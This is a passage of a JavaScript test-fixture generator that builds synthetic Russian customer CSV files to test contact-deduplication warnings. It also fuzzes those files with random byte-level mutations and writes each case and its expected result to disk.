      ...many(buyers, (at) => row(at, { name: `Покупатель ${at}`, phone: ['12345678900', '00000000000', '+7 999 999 99 99'][n % 3], email: `p${at}@example.ru`, client: `p${at}`, warns: ['W_PHONE_PLACEHOLDER'] })), row(0, { phone: '12345678900', email: '', error: ['Телефон', 'E_NO_CONTACT'] }),
      // A chain phone, mail, phone.
      row(0, { phone: '89160000011', email: 'a1@example.ru', client: 'chain' }), row(0, { phone: '8 916 000-00-11', email: 'A2@example.ru', client: 'chain' }), row(0, { phone: '+79160000012', email: 'a2@example.ru', client: 'chain' }), row(0, { phone: '9160000012', email: '', client: 'chain' }),
      row(0, { name: 'Муж', phone: '89160000021', email: 'he@example.ru', client: 'pair' }), row(0, { name: 'Жена', phone: '89160000021', email: 'she@example.ru', client: 'pair' }),
      ...many(6, (at) => row(0, { name: 'Одна Дама', phone: `8916000003${at}`, email: 'one@example.ru', client: 'lady' })),
      // A switchboard: exactly five partners and names share it, four do not.
      ...many(5 + (n % 3), (at) => row(0, { name: `Сотрудник ${at}`, phone: '84950000099', email: `staff${at}@corp.ru`, client: `staff${at}` })), row(0, { name: 'Секретарь', phone: '84950000099', email: '', client: 'secretary' }), row(0, { name: ' секретарь ', phone: '8 495 000-00-99', email: '', client: 'secretary' }), row(0, { name: 'Сотрудник 0', phone: '84950000099', email: '', client: 'staff0 by name' }),
      ...many(4, (at) => row(0, { name: `Бригада ${at}`, phone: '84950000077', email: `team${at}@corp.ru`, client: 'team' })),
      // A mailbox of a manager: five phones and five names.
      ...many(5, (at) => row(0, { name: `Заказчик ${at}`, phone: `8916000005${at}`, email: 'sales@corp.ru', client: `customer${at}` })),
      // Five partners under one name do not share it.
      ...many(5, (at) => row(0, { name: 'ООО Одно', phone: '84950000066', email: `dept${at}@one.ru`, client: 'one name' })),
    ].map((data) => ({ ...data, kopecks: 100 + random.below(900) }));
    const order = rows.map((data) => [random.below(1e9), data]).sort((a, b) => a[0] - b[0]).map(([, data]) => data);
    return file(order, { alsoWarns: { W_SHARED_CONTACT: 2 }, encoding: n % 2 ? 'cp1251' : 'utf-8', separator: n % 3 ? ';' : '\t' });
  },
};

/** Every class in so many variants. */
export function* cases(seed, variants) {
  for (const [name, make] of Object.entries(CLASSES)) {
    for (let n = 0; n < variants; n++) {
      const { bytes, expected } = make(randomOf(seed * 1000 + n), n);
      if (expected.alsoWarns) Object.assign(expected.warnings, expected.alsoWarns);
      if (expected.anyWarnings) delete expected.warnings;
      yield { name: `${name}_${n}`, bytes: n % 7 === 6 && name === 'legacy_cyrillic_semicolon' ? gzipSync(bytes) : bytes, expected };
    }
  }
}

const INSERTED = ['\0', '\ufeff', '\u202e', '\u200b', '"', '""', '";"', '\n', '\r', '\r\n', ';', ',', '\t', '|', '\u00a0', '\u0085', '\u2028', '\x1a', '\x1f', '\ufffd', "'", '=', 'İ', 'Σ', '😀', '１'].map((text) => Buffer.from(text)).concat([[0xff], [0xd0], [0xef, 0xbb], [0xed, 0xa0, 0x80], [0xc0, 0x80]].map((bytes) => Buffer.from(bytes)));
const splice = (bytes, at, count, piece) => Buffer.concat([bytes.subarray(0, at), piece, bytes.subarray(at + count)]);
const swap = (bytes, from, to) => Buffer.from(bytes.map((byte) => (byte === from ? to : byte)));
const byLines = (bytes, change) => Buffer.from(change(bytes.toString('latin1')), 'latin1');

const MUTATIONS = [
  (bytes, { below }) => many(3, () => below(bytes.length)).reduce((all, at) => ((all[at] ^= 1 << below(8)), all), Buffer.from(bytes)),
  (bytes, { below }) => bytes.subarray(0, below(bytes.length + 1)),
  (bytes, { below }) => bytes.subarray(below(Math.min(200, bytes.length))),
  (bytes, { below, pick }) => splice(bytes, below(bytes.length + 1), 0, pick(INSERTED)),
  (bytes, { below, pick }) => splice(bytes, below(Math.min(130, bytes.length + 1)), 0, pick(INSERTED)),
  (bytes, { below }) => splice(bytes, below(bytes.length + 1), 1 + below(5), Buffer.alloc(0)),
  (bytes, { pick }) => swap(bytes, pick([59, 44, 9]), pick([59, 44, 9, 124])),
  (bytes, { pick }, others) => Buffer.concat([bytes, pick(others)]),
  (bytes, { below }) => byLines(bytes, (text) => text.replaceAll(';', () => (below(10) === 0 ? '";"' : ';'))),
  (bytes, { pick }) => byLines(bytes, (text) => text.replace(/\r?\n/g, () => pick(LINE_ENDS))),
  (bytes, { below }) => byLines(bytes, (text) => text.split('\n').flatMap((line, at, all) => (below(8) === 0 ? [line, all[below(all.length)]] : [line])).join('\n')),
  (bytes) => gzipSync(bytes),
];

/** Files broken at random, one to three times over. */
export function* mutations(seed, count) {
  const random = randomOf(seed);
  const files = [...cases(seed, 6)].map(({ bytes }) => bytes).filter(({ length }) => length > 0 && length < 50_000);
  for (let n = 0; n < count; n++) {
    const times = 1 + random.below(3);
    yield { name: `mutation_${n}`, bytes: many(times, () => random.pick(MUTATIONS)).reduce((bytes, mutate) => (bytes.length === 0 ? bytes : mutate(bytes, random, files)), random.pick(files)) };
  }
}

if (import.meta.url === pathToFileURL(process.argv[1]).href) {
  const [target, seed, variants, mutated] = [process.argv[2], ...process.argv.slice(3).map(Number)];
  const write = ({ name, bytes, expected }) => {
    const folder = join(target, name);
    mkdirSync(folder, { recursive: true });
    writeFileSync(join(folder, 'input.csv'), bytes);
    if (expected) writeFileSync(join(folder, 'expected.json'), JSON.stringify(expected));
  };
  for (const one of cases(seed, variants)) write(one);
  for (const one of mutations(seed, mutated)) write(one);
}
